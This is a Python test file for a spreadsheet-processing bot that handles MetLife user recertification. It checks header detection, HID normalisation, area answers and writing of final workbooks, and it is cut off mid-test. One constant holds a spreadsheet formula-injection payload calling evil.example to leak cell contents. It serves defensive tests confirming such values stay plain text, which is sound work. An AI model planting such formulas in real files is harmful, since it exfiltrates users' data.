"""MA-005 files: MetLife's workbook read, the areas' file and their answers, the final file."""

from __future__ import annotations

import io
import json
from collections.abc import Collection, Mapping, Sequence
from typing import Any

import openpyxl
import pytest
from openpyxl.styles import Font, PatternFill
from python_calamine import CalamineWorkbook

from bot.documents.recert import (
    APPLICATIONS,
    DECISIONS,
    ENRICHED_HEADERS,
    ENRICHED_SHEET,
    INSTRUCTIONS_SHEET,
    Answer,
    RecertFile,
    applications_in,
    final_statuses,
    hid_key,
    read_answers,
    read_recert,
    write_enriched,
    write_final,
)
from bot.documents.xlsx import SpreadsheetError, check_xlsx
from tests.hostile_files import HOSTILE, HostileFile
from tests.recert_data import (
    ANSWER_HEADER,
    APP_SHEETS,
    HEADER_ROW,
    answer_file,
    big_metlife_file,
    enriched_rows,
    metlife_file,
    metlife_hids,
    metlife_rows,
)

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")'
CASE = "MA-005-2026-0001"
RESPOND_BY = "viernes 20 de febrero de 2026"
DEADLINE = "viernes 27 de febrero de 2026"


def book(
    sheets: Sequence[tuple[str, Sequence[Sequence[object]]]],
    *,
    hidden: Collection[str] = (),
    hidden_rows: Mapping[str, Sequence[int]] | None = None,
) -> bytes:
    """A workbook with these sheets and rows from A1, some sheets or rows hidden."""
    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    for name, rows in sheets:
        sheet = workbook.create_sheet(name)
        for row in rows:
            sheet.append(list(row))
        if name in hidden:
            sheet.sheet_state = "hidden"
        for number in (hidden_rows or {}).get(name, ()):
            sheet.row_dimensions[number].hidden = True
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def users_of(recert: RecertFile) -> list[tuple[str, str, str, str, int, str]]:
    """(hid, nombre, aplicacion, hoja, fila, estatus) of every user read."""
    return [
        (u.hid, u.nombre, u.aplicacion, u.hoja, u.fila, u.estatus_metlife) for u in recert.users
    ]


def enriched_for(recert: RecertFile) -> bytes:
    """The areas' file for these users."""
    return write_enriched(
        enriched_rows(recert.users), case_ref=CASE, respond_by=RESPOND_BY, deadline=DEADLINE
    )


def load(data: bytes) -> Any:
    """The workbook in openpyxl, to look at cells as Excel would."""
    return openpyxl.load_workbook(io.BytesIO(data))


# --- applications and HIDs ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Recertificación B'Life 2026", ("B'Life",)),
        ("RE: recertificacion blife", ("B'Life",)),
        ("BeLife usuarios", ("B'Life",)),
        ("be life", ("B'Life",)),
        ("B Life", ("B'Life",)),
        ("B´Life", ("B'Life",)),
        ("B’LIFE", ("B'Life",)),
        ("pro99", ("Pro99",)),
        ("Pro 99", ("Pro99",)),
        ("PRO-99.xlsx", ("Pro99",)),
        ("Usuarios Consultador", ("Consultador",)),
        ("gestion movil", ("Gestión Móvil",)),
        ("GESTIÓN MÓVIL", ("Gestión Móvil",)),
        ("GestionMovil_2026.xlsx", ("Gestión Móvil",)),
        ("Gestión Móvil, Pro99 y B'Life", ("B'Life", "Pro99", "Gestión Móvil")),
        ("Recert_BLife_Pro99_Consultador", ("B'Life", "Pro99", "Consultador")),
        ("", ()),
        ("Resumen", ()),
        ("pro990 consultadores blifeline", ()),  # whole words only
        ("lifestyle probable", ()),
    ],
)
def test_applications_in(text: str, expected: tuple[str, ...]) -> None:
    """Case, accents, spacing and punctuation do not matter; the order is APPLICATIONS'."""
    found = applications_in(text)
    assert found == expected
    assert list(found) == sorted(found, key=APPLICATIONS.index)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (1234.0, "1234"),
        (1234, "1234"),
        ("001234", "1234"),
        (" 001234 ", "1234"),
        ("'001234", "1234"),
        (" 'A-77 ", "A-77"),
        ("a-77", "A-77"),
        ("AB 12 3", "AB123"),
        ("1234.0", "1234"),
        ("0000", "0"),
        (None, ""),
        ("", ""),
        ("   ", ""),
        (True, ""),
    ],
)
def test_hid_key(value: object, expected: str) -> None:
    """Numbers and texts of the same HID share one key."""
    assert hid_key(value) == expected


# --- reading MetLife's file -----------------------------------------------------------------


def test_realistic_file_reads_every_user_as_built() -> None:
    """Three application sheets, header on row 4 under a merged title, hidden rows read."""
    data = metlife_file(900)
    recert = read_recert(data, "Recertificación anual 2026.xlsx")
    expected = metlife_rows(900)
    assert recert.ok
    assert recert.problems == ()  # the Instrucciones sheet is skipped without a word
    assert users_of(recert) == [
        (row.hid, row.nombre, row.aplicacion, row.sheet, row.row, row.estatus) for row in expected
    ]
    assert [user.hid for user in recert.users] == metlife_hids(data)
    assert recert.applications == ("B'Life", "Pro99", "Gestión Móvil")
    counts = {app: sum(1 for u in recert.users if u.aplicacion == app) for app in APPLICATIONS}
    assert counts == {"B'Life": 765, "Pro99": 90, "Consultador": 0, "Gestión Móvil": 45}
    assert [layout.name for layout in recert.sheets] == [name for name, _app, _ in APP_SHEETS]
    blife = recert.sheets[0]
    assert (blife.header_row, blife.first_row, blife.last_row) == (4, 5, 769)
    assert dict(blife.columns) == {"hid": 1, "nombre": 2, "estatus_metlife": 6}
    assert blife.last_column == 6
    # Hidden rows are users too.
    hidden = [row for row in expected if row.hidden]
    assert len(hidden) == 2
    assert {(row.sheet, row.row) for row in hidden} <= {(u.hoja, u.fila) for u in recert.users}


def test_realistic_file_is_deterministic_and_shapes_hids_and_names() -> None:
    """Same bytes per seed; HIDs as numbers and texts, names with stray spaces, collapsed."""
    assert metlife_file(120, seed=7) == metlife_file(120, seed=7)
    assert metlife_file(120, seed=7) != metlife_file(120, seed=8)
    rows = metlife_rows(120, seed=7)
    written = [row.written for row in rows]
    assert any(isinstance(value, int) for value in written)
    assert any(isinstance(value, str) and value.startswith("0") for value in written)
    assert any(isinstance(value, str) and value.startswith("'") for value in written)
    assert any(isinstance(value, str) and value.startswith(" ") for value in written)
    assert any(row.written_name != row.nombre for row in rows)
    recert = read_recert(metlife_file(120, seed=7))
    by_row = {(u.hoja, u.fila): u for u in recert.users}
    for row in rows:
        user = by_row[(row.sheet, row.row)]
        assert user.hid == row.hid
        assert user.nombre == row.nombre
        assert "  " not in user.nombre and user.nombre == user.nombre.strip()
    zero = next(row for row in rows if isinstance(row.written, str) and row.written[0] == "0")
    assert by_row[(zero.sheet, zero.row)].hid == zero.written  # leading zeros kept


def test_single_sheet_with_application_column() -> None:
    """The application comes from the row's column, whatever its spelling."""
    recert = read_recert(metlife_file(60, layout="single_sheet"), "recert.xlsx")
    assert recert.problems == ()
    assert recert.applications == APPLICATIONS
    assert [u.aplicacion for u in recert.users] == [
        row.aplicacion for row in metlife_rows(60, layout="single_sheet")
    ]
    layout = recert.sheets[0]
    assert layout.header_row == 1
    assert dict(layout.columns) == {
        "hid": 1,
        "nombre": 2,
        "aplicacion": 3,
        "estatus_metlife": 4,
        "respuesta": 5,
    }


@pytest.mark.parametrize(
    ("hid", "nombre", "aplicacion", "estatus", "respuesta"),
    [
        ("HID", "Nombre", "Aplicación", "Estatus", "Estatus final"),
        ("No. Empleado", "Nombre completo", "Aplicativo", "Status", "Recertificación"),
        (
            "Número de empleado",
            "Nombre del usuario",
            "Sistema",
            "Estatus actual",
            "Mantener / Baja",
        ),
        ("Num. empleado MetLife", "NOMBRE", "APLICACIÓN", "ESTATUS", "Acción"),
        ("ID HID", "Nombre completo ", "aplicativo", "status", "Respuesta"),
        ("Nº de empleado", "Nombre (como en INE)", "Sistema", "Estado", "Resultado"),
    ],
)
def test_header_names_vary(
    hid: str, nombre: str, aplicacion: str, estatus: str, respuesta: str
) -> None:
    """Every usual title of each column is recognised, in any column order."""
    data = book(
        [
            (
                "Usuarios",
                [
                    ["Recertificación anual de usuarios 2026"],
                    [],
                    [respuesta, estatus, "Puesto", nombre, aplicacion, hid],
                    [None, "Activo", "Asesor", "Ana López", "Pro 99", 4321],
                ],
            )
        ]
    )
    recert = read_recert(data)
    assert dict(recert.sheets[0].columns) == {
        "respuesta": 1,
        "estatus_metlife": 2,
        "nombre": 4,
        "aplicacion": 5,
        "hid": 6,
    }
    assert users_of(recert) == [("4321", "Ana López", "Pro99", "Usuarios", 4, "Activo")]


def test_header_below_merged_title_rows() -> None:
    """A merged title, a blank row and a subtitle above the header; header found by names."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "BLife"
    sheet["A1"] = "Recertificación anual de usuarios 2026"
    sheet.merge_cells("A1:F1")
    sheet["A3"] = "HID de la promotoría, B'Life"  # a subtitle naming HID is not the header
    for _ in range(20):
        sheet.append([])
    sheet.append(["ID HID", "Nombre completo", "Estatus"])
    sheet.append(["000123", "Ana López", "Activo"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    recert = read_recert(buffer.getvalue())
    assert recert.sheets[0].header_row == 24
    assert users_of(recert) == [("000123", "Ana López", "B'Life", "BLife", 25, "Activo")]


def test_header_beyond_the_scanned_rows_is_not_found() -> None:
    """The header must be within the first 30 rows."""
    rows: list[list[object]] = [[] for _ in range(30)]
    rows += [["HID", "Nombre"], [1, "Ana"]]
    recert = read_recert(book([("Usuarios", rows)]))
    assert not recert.ok
    assert "primeras 30 filas" in recert.problems[0]


def test_application_from_column_then_sheet_then_filename() -> None:
    """Column first, then a sheet naming one application, then the file name, else ""."""
    data = book(
        [
            (
                "Pro99",
                [
                    ["HID", "Nombre", "Aplicación"],
                    [1, "Ana", "Gestión Móvil"],
                    [2, "Beto", None],
                    [3, "Carla", "Portal de agentes"],  # unknown: the sheet decides
                ],
            ),
            ("Usuarios", [["HID", "Nombre"], [4, "Dora"]]),
            ("BLife y Pro99", [["HID", "Nombre"], [5, "Eva"]]),  # two names: no decision
        ]
    )
    recert = read_recert(data, "Recertificación Consultador.xlsx")
    assert [(u.hid, u.aplicacion) for u in recert.users] == [
        ("1", "Gestión Móvil"),
        ("2", "Pro99"),
        ("3", "Pro99"),
        ("4", "Consultador"),
        ("5", "Consultador"),
    ]
    unnamed = read_recert(book([("Usuarios", [["HID", "Nombre"], [4, "Dora"]])]), "datos.xlsx")
    assert [u.aplicacion for u in unnamed.users] == [""]
    assert unnamed.applications == ()


def test_hid_shapes() -> None:
    """Number, text with zeros, leading apostrophe, surrounding spaces, letters."""
    data = book(
        [
            (
                "BLife",
                [
                    ["HID", "Nombre"],
                    [123456, "Número"],
                    ["00123457", "Ceros"],
                    ["'123458", "Apóstrofo"],
                    ["  123459  ", "Espacios"],
                    ["mx-77", "Letras"],
                    [123460.0, "Flotante"],
                ],
            )
        ]
    )
    recert = read_recert(data)
    assert [(u.hid, hid_key(u.hid)) for u in recert.users] == [
        ("123456", "123456"),
        ("00123457", "123457"),
        ("123458", "123458"),
        ("123459", "123459"),
        ("mx-77", "MX-77"),
        ("123460", "123460"),
    ]
    assert recert.problems == ()


def test_blank_rows_in_the_middle_and_at_the_end() -> None:
    """Blank rows are skipped; the last row is the last with data."""
    rows: list[list[object]] = [["HID", "Nombre  completo", "Estatus"]]
    rows += [[1, "José   Pérez  ", "Activo"], [], [None, None, None], [2, " María  Núñez", None]]
    rows += [[None, None, None]] * 5
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Gestion Movil"
    for row in rows:
        sheet.append(row)
    sheet["D20"].fill = PatternFill("solid", start_color="FFFF00")  # formatted, empty
    buffer = io.BytesIO()
    workbook.save(buffer)
    recert = read_recert(buffer.getvalue())
    assert users_of(recert) == [
        ("1", "José Pérez", "Gestión Móvil", "Gestion Movil", 2, "Activo"),
        ("2", "María Núñez", "Gestión Móvil", "Gestion Movil", 5, ""),
    ]
    assert recert.sheets[0].last_row == 5
    assert recert.problems == ()


def test_hidden_rows_are_users() -> None:
    """Rows hidden in Excel are read like the others."""
    data = book(
        [("BLife", [["HID", "Nombre"], [1, "Ana"], [2, "Beto"], [3, "Carla"]])],
        hidden_rows={"BLife": [3]},
    )
    assert [u.hid for u in read_recert(data).users] == ["1", "2", "3"]


def test_row_without_hid_is_a_problem() -> None:
    """A row with a name but no HID is reported with its sheet and row, and left out."""
    rows: list[list[object]] = [["HID", "Nombre"]] + [[n, f"Usuario {n}"] for n in range(1, 16)]
    rows.append([None, "Sin Número"])
    rows.append(["TOTAL USUARIOS:", 15])
    recert = read_recert(book([("BLife", rows)]))
    assert len(recert.users) == 15
    assert recert.problems[0].startswith("Hoja «BLife», fila 17: sin HID")
    assert "Sin Número" in recert.problems[0]
    assert recert.problems[1].startswith("Hoja «BLife», fila 18: «TOTAL USUARIOS:» no parece")


def test_duplicate_hid_in_one_application_names_both_rows() -> None:
    """The first row is kept; the same HID in another application is no problem."""
    data = book(
        [
            ("BLife", [["HID", "Nombre"], [1234, "Ana"], [5, "Beto"], ["001234", "Ana bis"]]),
            ("Pro99", [["HID", "Nombre"], [1234, "Ana"]]),
            ("Otra B'Life", [["HID", "Nombre"], [5, "Beto otra vez"]]),
        ]
    )
    recert = read_recert(data)
    assert [(u.hid, u.aplicacion, u.fila) for u in recert.users] == [
        ("1234", "B'Life", 2),
        ("5", "B'Life", 3),
        ("1234", "Pro99", 2),
    ]
    assert recert.problems == (
        "Hoja «BLife», fila 4: el HID 001234 está repetido en B'Life (ya aparece en la fila 2); "
        "se tomó la primera.",
        "Hoja «Otra B'Life», fila 2: el HID 5 está repetido en B'Life (ya aparece en la hoja "
        "«BLife», fila 3); se tomó la primera.",
    )


def test_hidden_sheet_skipped_and_reported_other_sheets_quietly_skipped() -> None:
    """Hidden sheets are not read and are named; a summary sheet is skipped without a word."""
    data = book(
        [
            ("Resumen", [["Aplicación", "Usuarios"], ["B'Life", 2]]),
            ("BLife", [["HID", "Nombre"], [1, "Ana"], [2, "Beto"]]),
            ("Pro99", [["HID", "Nombre"], [3, "Carla"]]),
            ("Notas", [["Texto libre"]]),
        ],
        hidden={"Pro99", "Notas"},
    )
    recert = read_recert(data)
    assert [u.hid for u in recert.users] == ["1", "2"]
    assert [layout.name for layout in recert.sheets] == ["BLife"]
    assert recert.problems == (
        "Hoja «Pro99»: está oculta y no se revisó (parece tener usuarios).",
        "Hoja «Notas»: está oculta y no se revisó.",
    )


def test_no_sheet_with_hid_column() -> None:
    """No users, and a sentence naming the headers expected and the sheets looked at."""
    data = book(
        [
            ("Hoja1", [["Nombre", "RFC", "Correo"], ["Ana", "XAXX010101000", "a@x.mx"]]),
            ("Resumen", [["Total", 1]]),
        ]
    )
    recert = read_recert(data)
    assert not recert.ok
    assert recert.users == () and recert.sheets == () and recert.applications == ()
    (sentence,) = recert.problems
    assert "«HID»" in sentence and "«No. Empleado»" in sentence and "«Nombre»" in sentence
    assert "«Hoja1» y «Resumen»" in sentence


def test_header_without_users_is_reported() -> None:
    """A sheet with the headers and nothing under them."""
    recert = read_recert(book([("BLife", [["HID", "Nombre"]])]))
    assert not recert.ok
    assert recert.problems == ("Hoja «BLife»: tiene encabezados pero ningún usuario.",)


def test_many_problems_are_capped() -> None:
    """A systematic fault lists a hundred sentences and counts the rest."""
    rows: list[list[object]] = [["HID", "Nombre"]] + [[None, f"U{n}"] for n in range(150)]
    rows.append([1, "Ana"])
    recert = read_recert(book([("BLife", rows)]))
    assert len(recert.problems) == 101
    assert recert.problems[-1].startswith("… y 50 observaciones más")


def test_as_dict_is_json() -> None:
    """A user as JSON-able data with its key."""
    recert = read_recert(book([("BLife", [["HID", "Nombre"], ["007", "Ana"]])]))
    data = recert.users[0].as_dict()
    assert json.loads(json.dumps(data)) == {
        "hid": "007",
        "clave": "7",
        "nombre": "Ana",
        "aplicacion": "B'Life",
        "hoja": "BLife",
        "fila": 2,
        "estatus_metlife": "",
    }


@pytest.mark.parametrize("hostile", HOSTILE, ids=[hostile.name for hostile in HOSTILE])
def test_hostile_files(hostile: HostileFile) -> None:
    """What check_xlsx refuses, every reader refuses with the same kind; the rest reads empty."""
    data = hostile.build()
    try:
        check_xlsx(data)
    except SpreadsheetError as refusal:
        for reader in (read_recert, read_answers):
            with pytest.raises(SpreadsheetError) as raised:
                reader(data)
            assert raised.value.kind == refusal.kind
        with pytest.raises(SpreadsheetError):
            write_final(data, {}, [])
        return
    # Valid workbooks with the wrong contents: no HID column, so no users and a reason.
    recert = read_recert(data, hostile.filename)
    assert not recert.ok
    assert recert.problems
    assert not read_answers(data).found


# --- the file for the areas -----------------------------------------------------------------


def test_enriched_file_layout() -> None:
    """Headers, list validation, frozen header, filter, widths, instructions."""
    recert = read_recert(metlife_file(50))
    data = enriched_for(recert)
    workbook = load(data)
    assert workbook.sheetnames == [ENRICHED_SHEET, INSTRUCTIONS_SHEET]
    sheet = workbook[ENRICHED_SHEET]
    assert [cell.value for cell in sheet[1]] == list(ENRICHED_HEADERS)
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet["A1"].fill.fgColor.rgb.endswith("D9E1F2")
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:I51"
    assert sheet.column_dimensions["C"].width >= 30
    assert sheet.column_dimensions["F"].width >= 40
    assert sheet.max_row == 51
    (validation,) = sheet.data_validations.dataValidation
    assert validation.type == "list"
    assert validation.formula1 == '"Activo,Baja,Reactivar,Confirmar"'
    assert str(validation.sqref) == "H2:H51"
    assert validation.allow_blank
    first = recert.users[0]
    assert [cell.value for cell in sheet[2]][:4] == [
        first.aplicacion,
        first.hid,
        first.nombre,
        first.estatus_metlife,
    ]
    assert all(cell.data_type == "s" for cell in sheet[2][:7])  # HIDs stay text

    text = "\n".join(
        str(cell.value) for row in workbook[INSTRUCTIONS_SHEET].iter_rows() for cell in row
    )
    for fragment in (
        CASE,
        RESPOND_BY,
        DEADLINE,
        "Confirma las bajas propuestas",
        "siguen activos pero aparecen marcados como baja",
        "reactivaciones necesarias",
        "«Respuesta del área»",
        "De acuerdo con la propuesta",
        "HID y la decisión",
        "Una respuesta en blanco se toma como conformidad",
    ):
        assert fragment in text, fragment
    for decision in DECISIONS:
        assert decision in text


def test_enriched_round_trip_through_answers() -> None:
    """The file filled in Excel comes back with each decision by HID; blanks are not answers."""
    recert = read_recert(metlife_file(200))
    enriched = enriched_for(recert)
    untouched = read_answers(enriched)
    assert untouched.answers == {}
    assert len(untouched.pegasus) == 200  # CAM Pegasus's status read back
    assert set(untouched.pegasus.values()) <= {"Activo", "Baja", "Sin información"}
    assert untouched.found
    users = recert.users
    decisions = {
        users[0].hid: "Confirmar",
        users[1].hid: "Baja",
        users[2].hid: "Reactivar",
        users[3].hid: "Activo",
        users[4].hid: "de acuerdo",
        users[5].hid: "Dar de baja",
    }
    answered = read_answers(answer_file(enriched, decisions))
    assert {key: answer.decision for key, answer in answered.answers.items()} == {
        hid_key(users[0].hid): "Confirmar",
        hid_key(users[1].hid): "Baja",
        hid_key(users[2].hid): "Reactivar",
        hid_key(users[3].hid): "Activo",
        hid_key(users[4].hid): "Confirmar",
        hid_key(users[5].hid): "Baja",
    }
    assert answered.answers[hid_key(users[1].hid)].fila == 3
    assert answered.problems == ()


def test_answers_with_reordered_columns_extra_sheet_and_header_lower() -> None:
    """An area's own copy: other sheet first, title rows, columns moved, extra columns."""
    data = book(
        [
            ("Notas", [["Revisado por Comercial"], ["HID pendientes: ninguno"]]),
            (
                "Copia validación",
                [
                    ["Validación Comercial"],
                    [],
                    [
                        "Comentario",
                        "Respuesta del área",
                        "Zona",
                        "hid",
                        "Estatus CAM Pegasus",
                        "Nombre",
                    ],
                    ["Ya no labora", "baja", "CDMX", 1001, "Activo", "Ana"],
                    [None, "  SÍ ", "CDMX", "0001002", "baja", "Beto"],
                    [None, None, "CDMX", 1003, "Sin información", "Carla"],
                    ["Cambio de zona", None, "CDMX", 1004, None, "Dora"],
                    [None, "Reactivación", None, "'1005", None, "Eva"],
                    [None, "Mantener", None, None, None, "Sin HID"],
                    [None, "quizá", None, 1006, None, "Fer"],
                ],
            ),
        ]
    )
    answers = read_answers(data)
    assert {key: (a.decision, a.comentario, a.fila) for key, a in answers.answers.items()} == {
        "1001": ("Baja", "Ya no labora", 4),
        "1002": ("Confirmar", "", 5),
        "1004": ("", "Cambio de zona", 7),
        "1005": ("Reactivar", "", 8),
    }
    assert dict(answers.pegasus) == {"1001": "Activo", "1002": "Baja", "1003": "Sin información"}
    assert answers.problems == (
        "Hoja «Copia validación», fila 9: tiene respuesta pero no HID; no se tomó en cuenta.",
        "Hoja «Copia validación», fila 10 (HID 1006): «quizá» no es una respuesta válida; usa "
        "Activo, Baja, Reactivar o Confirmar.",
    )


@pytest.mark.parametrize(
    ("word", "decision"),
    [
        ("activo", "Activo"),
        ("Mantener", "Activo"),
        ("VIGENTE", "Activo"),
        ("sigue activo", "Activo"),
        ("OK activo", "Activo"),
        ("baja", "Baja"),
        ("Dar de baja", "Baja"),
        ("eliminar", "Baja"),
        ("Inactivo", "Baja"),
        ("reactivar", "Reactivar"),
        ("Reactivación", "Reactivar"),
        ("reactivacion", "Reactivar"),
        ("confirmar", "Confirmar"),
        ("Confirmo", "Confirmar"),
        ("de acuerdo", "Confirmar"),
        ("OK", "Confirmar"),
        ("Sí", "Confirmar"),
        ("si", "Confirmar"),
        ("Correcto.", "Confirmar"),
        ("Baja - ya no labora en la promotoría", "Baja"),
        ("Activo, sigue en la zona", "Activo"),
    ],
)
def test_decision_words(word: str, decision: str) -> None:
    """Accepted words, any case or accents, trimmed."""
    data = book([("Validación", [["HID", "Respuesta del área"], [77, f"  {word} "]])])
    answers = read_answers(data)
    assert answers.answers["77"].decision == decision
    assert answers.problems == ()


@pytest.mark.parametrize("word", ["Sí, baja", "Activo (no dar de baja)", "tal vez", "2026"])
def test_unclear_decisions_are_problems(word: str) -> None:
    """Two different decisions in one answer, or none, are not guessed."""
    answers = read_answers(book([("V", [["HID", "Respuesta"], [77, word]])]))
    assert answers.answers == {}
    assert len(answers.problems) == 1 and "fila 2 (HID 77)" in answers.problems[0]


def test_conflicting_answers_for_one_hid() -> None:
    """The first answer wins and the other is reported."""
    answers = read_answers(
        book([("V", [["HID", "Respuesta"], [77, "Baja"], ["077", "Activo"], [77, "baja"]])])
    )
    assert answers.answers["77"] == Answer("Baja", "", 2)
    assert answers.problems == (
        "Hoja «V», fila 3 (HID 077): la respuesta «Activo» no coincide con «Baja» de la fila 2; "
        "se tomó la primera.",
    )


def test_file_without_answer_columns_finds_nothing() -> None:
    """MetLife's original sent back by mistake: no answer, no CAM Pegasus status."""
    answers = read_answers(metlife_file(30))
    assert not answers.found
    assert answers.problems == ()


# --- formulas never -------------------------------------------------------------------------


@pytest.mark.parametrize("text", [INJECTION, "+52 55 1234", "-1", "@SUM(A1)", "#N/A", "=1+1"])
def test_enriched_strings_are_never_formulas(text: str) -> None:
    """Names, HIDs and evidence starting like a formula or error stay plain text."""
    row = {
        "hid": text,
        "nombre": text,
        "aplicacion": "B'Life",
        "estatus_metlife": text,
        "pegasus": "Activo",
        "evidencia": text,
        "propuesta": "Activo",
    }
    data = write_enriched([row], case_ref=text, respond_by=RESPOND_BY, deadline=DEADLINE)
    sheet = load(data)[ENRICHED_SHEET]
    for column in ("B", "C", "D", "F"):
        cell = sheet[f"{column}2"]
        assert cell.data_type == "s", column
        assert cell.value == text
        assert cell.quotePrefix
    instructions = load(data)[INSTRUCTIONS_SHEET]
    case = next(row[1] for row in instructions.iter_rows() if row[0].value == "Caso")
    assert case.data_type == "s" and case.value == text
    assert b"<f>" not in _sheet_xml(data)


def _sheet_xml(data: bytes) -> bytes:
    """Every worksheet part of a workbook, concatenated."""
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"".join(
            archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")
        )


def test_enriched_strips_xml_illegal_characters() -> None:
    """Control characters from a system never make an unreadable file."""
    row = {"hid": "12\x0034", "nombre": "Ana\x07 López", "evidencia": "ok_x0041_"}
    data = write_enriched([row], case_ref=CASE, respond_by=RESPOND_BY, deadline=DEADLINE)
    sheet = load(data)[ENRICHED_SHEET]
    assert sheet["B2"].value == "1234"
    assert sheet["C2"].value == "Ana López"
    # Excel and calamine decode "_x0041_" as "A"; the text was escaped so they show it as is.
    with CalamineWorkbook.from_filelike(io.BytesIO(data)) as workbook:
        rows = workbook.get_sheet_by_name(ENRICHED_SHEET).to_python()
    assert rows[1][5] == "ok_x0041_"


def test_final_file_keeps_injected_name_as_text() -> None:
    """A name that looks like a formula in MetLife's file is still text in the final file."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "BLife"
    sheet.append(["HID", "Nombre"])
    for row, (hid, name) in enumerate(((1, INJECTION), (2, "Ana")), start=2):
        sheet.cell(row=row, column=1, value=hid)
        cell = sheet.cell(row=row, column=2, value=name)
        cell.data_type = "s"  # as MetLife's system exports it: a text cell
    buffer = io.BytesIO()
    workbook.save(buffer)
    data = buffer.getvalue()
    recert = read_recert(data)
    assert recert.users[0].nombre == INJECTION
    final = write_final(data, {("BLife", 2): "Baja", ("BLife", 3): "Activo"}, recert.sheets)
    result = load(final)["BLife"]
    assert result["B2"].data_type == "s" and result["B2"].value == INJECTION
    assert result["C2"].data_type == "s" and result["C2"].value == "Baja"
    assert b"<f>" not in _sheet_xml(final)


# --- the final file -------------------------------------------------------------------------


def _statuses(recert: RecertFile) -> dict[tuple[str, int], str]:
    """Every user's final status: every third one Baja."""
    return {
        (user.hoja, user.fila): "Baja" if index % 3 == 0 else "Activo"
        for index, user in enumerate(recert.users)
    }


def test_write_final_appends_column_and_keeps_formatting() -> None:
    """Merged title, fills, widths, hidden rows, frozen panes and other sheets stay as they were."""
    original = metlife_file(300)
    recert = read_recert(original)
    statuses = _statuses(recert)
    final = write_final(original, statuses, recert.sheets)
    before, after = load(original), load(final)
    assert after.sheetnames == before.sheetnames
    assert after["Instrucciones"]["A3"].value == before["Instrucciones"]["A3"].value
    for name, _application, _share in APP_SHEETS:
        old, new = before[name], after[name]
        assert {str(r) for r in new.merged_cells.ranges} == {"A1:F1"}
        assert new["A1"].value == old["A1"].value and new["A1"].font.size == 14
        assert new.freeze_panes == old.freeze_panes
        for letter in "ABCDEF":
            assert new.column_dimensions[letter].width == old.column_dimensions[letter].width
        hidden = {n for n, dim in old.row_dimensions.items() if dim.hidden}
        assert {n for n, dim in new.row_dimensions.items() if dim.hidden} == hidden
        # The appended header copies the style of the header to its left.
        header = new.cell(row=HEADER_ROW, column=7)
        left = new.cell(row=HEADER_ROW, column=6)
        assert header.value == "Estatus final"
        assert header.font.bold and header.font.color.rgb == left.font.color.rgb
        assert header.fill.fgColor.rgb == left.fill.fgColor.rgb == old["F4"].fill.fgColor.rgb
        assert new.column_dimensions["G"].width >= 14
        assert new.max_column == 7
        # The other cells are untouched.
        for row in range(HEADER_ROW, old.max_row + 1):
            assert [c.value for c in new[row][:6]] == [c.value for c in old[row][:6]]
    hidden_sheet = after["BLife"]
    assert hidden_sheet.row_dimensions[HEADER_ROW + 4].hidden
    for (sheet_name, row), status in statuses.items():
        cell = after[sheet_name].cell(row=row, column=7)
        assert cell.value == status and cell.data_type == "s"
    assert final_statuses(final, recert.sheets) == {
        hid_key(user.hid): statuses[(user.hoja, user.fila)] for user in recert.users
    }


def test_write_final_fills_existing_answer_column_with_metlife_words() -> None:
    """A "Recertificación" column with a list Mantener/Baja gets MetLife's own words."""
    original = metlife_file(100, layout="with_answer")
    recert = read_recert(original)
    assert all(layout.columns["respuesta"] == 7 for layout in recert.sheets)
    statuses = _statuses(recert)
    final = write_final(original, statuses, recert.sheets, header="No se usa")
    after = load(final)
    for layout in recert.sheets:
        sheet = after[layout.name]
        assert sheet.max_column == 7
        assert sheet.cell(row=HEADER_ROW, column=7).value == ANSWER_HEADER
    for (sheet_name, row), status in statuses.items():
        expected = "Mantener" if status == "Activo" else "Baja"
        assert after[sheet_name].cell(row=row, column=7).value == expected
    # Read back, MetLife's words are the canonical statuses.
    assert set(final_statuses(final, recert.sheets).values()) == {"Activo", "Baja"}
    assert final_statuses(final, recert.sheets) == {
        hid_key(user.hid): statuses[(user.hoja, user.fila)] for user in recert.users
    }


def test_write_final_answer_column_without_list_gets_canonical_words() -> None:
    """An "Acción" column with no list of options gets Activo and Baja."""
    data = book([("Usuarios", [["HID", "Nombre", "Acción"], [1, "Ana", None], [2, "Beto", "x"]])])
    recert = read_recert(data)
    final = write_final(data, {("Usuarios", 2): "Activo", ("Usuarios", 3): "Baja"}, recert.sheets)
    sheet = load(final)["Usuarios"]
    assert [sheet["C2"].value, sheet["C3"].value] == ["Activo", "Baja"]
    assert final_statuses(final, recert.sheets) == {"1": "Activo", "2": "Baja"}


def test_write_final_goes_past_a_column_of_notes_without_header() -> None:
    """Notes under no header are not overwritten; final_statuses finds the new column."""
    data = book([("BLife", [["HID", "Nombre"], [1, "Ana", "nota"], [2, "Beto"]])])
    recert = read_recert(data)
    final = write_final(data, {("BLife", 2): "Baja", ("BLife", 3): "Activo"}, recert.sheets)
    sheet = load(final)["BLife"]
    assert [c.value for c in sheet[1]] == ["HID", "Nombre", None, "Estatus final"]
    assert sheet["C2"].value == "nota"
    assert final_statuses(final, recert.sheets) == {"1": "Baja", "2": "Activo"}


def test_write_final_leaves_rows_without_status_blank() -> None:
    """final_statuses shows a user row not yet decided as ""."""
    data = book([("BLife", [["HID", "Nombre", "Estatus"], [1, "Ana", "Activo"], [2, "Beto"]])])
    recert = read_recert(data)
    final = write_final(data, {("BLife", 2): "Baja"}, recert.sheets, header="Recertificación")
    assert load(final)["BLife"]["D1"].value == "Recertificación"
    assert final_statuses(final, recert.sheets) == {"1": "Baja", "2": ""}


def test_write_final_refuses_wrong_arguments() -> None:
    """Statuses other than Activo/Baja, or for a sheet without layout, are programming errors."""
    data = book([("BLife", [["HID", "Nombre"], [1, "Ana"]])])
    recert = read_recert(data)
    with pytest.raises(ValueError, match="final status"):
        write_final(data, {("BLife", 2): "Reactivar"}, recert.sheets)
    with pytest.raises(ValueError, match="no layout"):
